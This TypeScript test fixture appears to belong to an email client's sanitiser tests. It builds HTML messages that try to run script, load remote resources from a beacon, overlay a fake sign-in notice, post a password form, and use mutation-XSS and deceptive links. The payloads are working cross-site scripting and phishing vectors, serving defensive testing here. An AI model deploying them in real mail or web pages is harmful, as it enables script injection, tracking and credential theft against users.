/**
 * HTML mail that tries to phone home, to run a script or to paint outside its frame (H1–H3). Every remote reference is
 * `${beacon}/<name>/<what>`, so that a beacon server that heard nothing proves it; scripts set document.title to HACKED.
 */
import { buildMessage, rawMessage, type TestMessage } from './messages.ts';

const script = "document.title='HACKED';parent.document.title='HACKED'";

/** Bodies by name; `at(what)` is the URL of a reference. */
function bodies(at: (name: string, what: string) => string): Record<string, string> {
  const n = (name: string) => (what: string) => at(name, what);
  const [images, css, head, meta, media] = ['images', 'css', 'head', 'meta', 'media'].map(n) as [
    (what: string) => string,
    (what: string) => string,
    (what: string) => string,
    (what: string) => string,
    (what: string) => string,
  ];
  return {
    script: `<script>${script};new Image().src='${at('script', 'inline')}'</script><script src="${at('script', 'src.js')}"></script>
<script type="module">import '${at('script', 'module.js')}'</script>`,
    handlers: `<img src=x onerror="${script};fetch('${at('handlers', 'onerror')}')"><body onload="${script}">
<details open ontoggle="${script}"><summary>x</summary></details><input autofocus onfocus="${script}">
<a href="javascript:${script}">click</a><a href="jav&#x09;ascript:${script}">click</a><img src="jAvAsCrIpT:${script}">`,
    images: `<img src="${images('img.png')}"><img srcset="${images('srcset.png')} 2x" src=""><picture><source srcset="${images('source.png')}"></picture>
<input type="image" src="${images('input.png')}"><table background="${images('table.png')}"><tr><td background="${images('td.png')}">x</td></tr></table>
<body background="${images('body.png')}"><img src="//${images('no-scheme.png').replace(/^https?:\/\//, '')}"><img lowsrc="${images('lowsrc.png')}" dynsrc="${images('dynsrc')}">`,
    css: `<style>@import url(${css('import.css')});@import '${css('import2.css')}';@font-face{font-family:f;src:url(${css('font.woff2')})}
p{background:url(${css('background.png')});font-family:f}li{list-style:url(${css('list.png')})}p::before{content:url(${css('content.png')})}
p{b\\61ckground-image:u\\72l(${css('escaped.png')})}</style><p style="background-image:url('${css('inline.png')}');cursor:url(${css('cursor.cur')}),auto">x</p>
<p style="background:image-set('${css('image-set.png')}' 1x);border-image:url(${css('border.png')});-webkit-mask:url(${css('mask.svg')});filter:url(${css('filter.svg#f')})">y</p><ul><li>z</ul>`,
    head: `<html><head><base href="${head('base/')}"><link rel="stylesheet" href="${head('style.css')}"><link rel="prefetch" href="${head('prefetch')}">
<link rel="preload" as="image" href="${head('preload.png')}"><link rel="dns-prefetch" href="${head('dns')}"><link rel="preconnect" href="${head('preconnect')}">
<link rel="icon" href="${head('icon.ico')}"><link rel="modulepreload" href="${head('module.js')}"></head><body><img src="relative.png"></body></html>`,
    meta: `<meta http-equiv="refresh" content="0;url=${meta('refresh')}"><meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline'">
<meta name="referrer" content="unsafe-url"><meta http-equiv="Set-Cookie" content="a=b">`,
    frames: `<iframe src="${at('frames', 'iframe')}"></iframe><iframe srcdoc="<script>${script}</script><img src='${at('frames', 'srcdoc.png')}'>"></iframe>
<object data="${at('frames', 'object')}"><embed src="${at('frames', 'embed')}"></object><applet code="${at('frames', 'applet')}"></applet>
<frameset><frame src="${at('frames', 'frame')}"></frameset><portal src="${at('frames', 'portal')}"></portal>`,
    media: `<video src="${media('video.mp4')}" poster="${media('poster.png')}" autoplay></video><audio src="${media('audio.mp3')}" autoplay></audio>
<video><source src="${media('source.mp4')}"><track src="${media('track.vtt')}" default></video>`,
    svg: `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><script>${script}</script><image href="${at('svg', 'image.png')}"/>
<image xlink:href="${at('svg', 'xlink.png')}"/><use href="${at('svg', 'use.svg#a')}"/><feImage href="${at('svg', 'fe.png')}"/>
<a xlink:href="javascript:${script}"><text>x</text></a><set attributeName="href" to="javascript:${script}"/><animate onbegin="${script}" attributeName="x" dur="1s"/>
<style>@import '${at('svg', 'import.css')}';</style><foreignObject><img src="${at('svg', 'foreign.png')}"></foreignObject></svg>
<img src="data:image/svg+xml,&lt;svg xmlns='http://www.w3.org/2000/svg'&gt;&lt;image href='${at('svg', 'data.png')}'/&gt;&lt;/svg&gt;">`,
    forms: `<form action="${at('forms', 'submit')}" method="post"><input name="password" type="password" value="typed"><button formaction="${at('forms', 'formaction')}">Sign in</button></form>
<a href="https://contoso.test" ping="${at('forms', 'ping')}">link</a><isindex action="${at('forms', 'isindex')}">`,
    overlay: `<div id="overlay" style="position:fixed;inset:0;z-index:2147483647;background:#fff;width:9999px;height:9999px">Your session has ended. Sign in again.</div>
<style>html,body{position:fixed;top:-500px}*{transform:translateX(-9999px)}</style>`,
    mutation: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${script}&gt;"></mglyph></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror=${script}>"></noscript><template><script>${script}</script></template>
<form id="f"><input name="attributes"><input name="childNodes"><input name="parentNode"></form><style><style/><img src=x onerror="${script}">`,
    links: `<a href="file:///etc/passwd">file</a> <a href="smb://evil.test/x">smb</a> <a href="data:text/html,<script>${script}</script>">data</a>
<a href="https://contoso.test@evil.test/">userinfo</a> <a href="https://evil.test/">https://contoso.test/</a> <a href="vbscript:x">vb</a> <a target="_top" href="https://contoso.test/top">top</a>`,
  };
}

/** One message per kind of attack, and one whose remote image stands in a text/html part without a head. */
export function attackMessages(beacon: string): TestMessage[] {
  const built = Object.entries(bodies((name, what) => `${beacon}/${name}/${what}`)).map(([name, body], index) =>
    buildMessage({
      name,
      subject: `Attack: ${name}`,
      from: 'Mallory <mallory@evil.test>',
      date: new Date(Date.UTC(2026, 10, 17, 8, index)),
      text: 'The harmless text.',
      html: `<p id="harmless">The harmless text.</p>${body}`,
    }),
  );
  const head = 'From: mallory@evil.test\r\nSubject: Attack: sniffed\r\nMessage-ID: <attack-sniffed@heron.test>\r\n';
  const sniffed = `${head}Content-Type: TEXT/HTML\r\nContent-Location: ${beacon}/sniffed/\r\n\r\n<img src="location.png"><img src=${beacon}/sniffed/bare.png`;
  return [...built, rawMessage('sniffed', 'Attack: sniffed', sniffed, new Date('2026-11-17T09:00:00Z'))];
}
